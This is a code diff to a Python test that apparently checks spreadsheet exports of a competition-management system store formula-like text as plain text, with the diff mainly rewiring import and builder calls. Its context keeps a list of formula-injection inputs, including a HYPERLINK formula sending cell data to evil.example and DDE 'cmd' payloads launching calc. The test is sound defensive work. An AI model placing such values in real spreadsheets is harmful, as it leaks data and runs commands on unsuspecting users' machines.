@@ -14,9 +14,11 @@ from exports.registry_workbook import build_registry_file
 from exports.results_workbook import build_results_workbook
 from exports.score_workbook import build_scores_table, build_scoresheet
 from exports.writeup_workbook import build_writeup_workbook, read_writeup_workbook
-from kb.editions import get_edition
+from kb.editions import case_list_choices, get_edition
 from kb.models import Assignment, Case, CaseVersion, Category, Person, Stage, User
+from kb.programme import region_programme
 from kb.speakers import list_speakers
+from kb.writeup_sheet import writeup_sheet
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?c="&A2,"看詳情")', "=cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]
@@ -56,10 +58,10 @@ def exported_workbooks(year: int) -> dict[str, bytes]:
         "score sheet": build_scoresheet(year, "screening", judge),
         "score table": build_scores_table(year, "onsite"),
         "results": build_results_workbook(year),
-        "write-up": build_writeup_workbook(benchmark.id),
+        "write-up": build_writeup_workbook(writeup_sheet(benchmark.id)),
         "registry": build_registry_file(list_speakers(with_contacts=True), "xlsx", with_contacts=True),
-        "agenda": build_agenda_workbook(region_agenda(year, region)),
-        "case template": build_case_template(get_edition(year)),
+        "agenda": build_agenda_workbook(region_agenda(region_programme(year, region))),
+        "case template": build_case_template(case_list_choices(get_edition(year))),
     }
 
 
@@ -84,7 +86,7 @@ def test_every_workbook_writes_hostile_text_as_text_and_reads_it_back(hostile_ye
             assert len(formulas) == load_workbook(BytesIO(data))["評分表"].max_row - 1
     # text that looks like a formula reads back exactly as written
     benchmark = Case.get(Case.status == "benchmark")
-    case_id, sections, _ = read_writeup_workbook(build_writeup_workbook(benchmark.id))
+    case_id, sections, _ = read_writeup_workbook(build_writeup_workbook(writeup_sheet(benchmark.id)))
     assert case_id == benchmark.id
     # (a spreadsheet file is XML, whose parsers read a lone carriage return as a line feed)
     assert set(sections.values()) <= {text.replace("\r", "\n") for text in HOSTILE} and sections
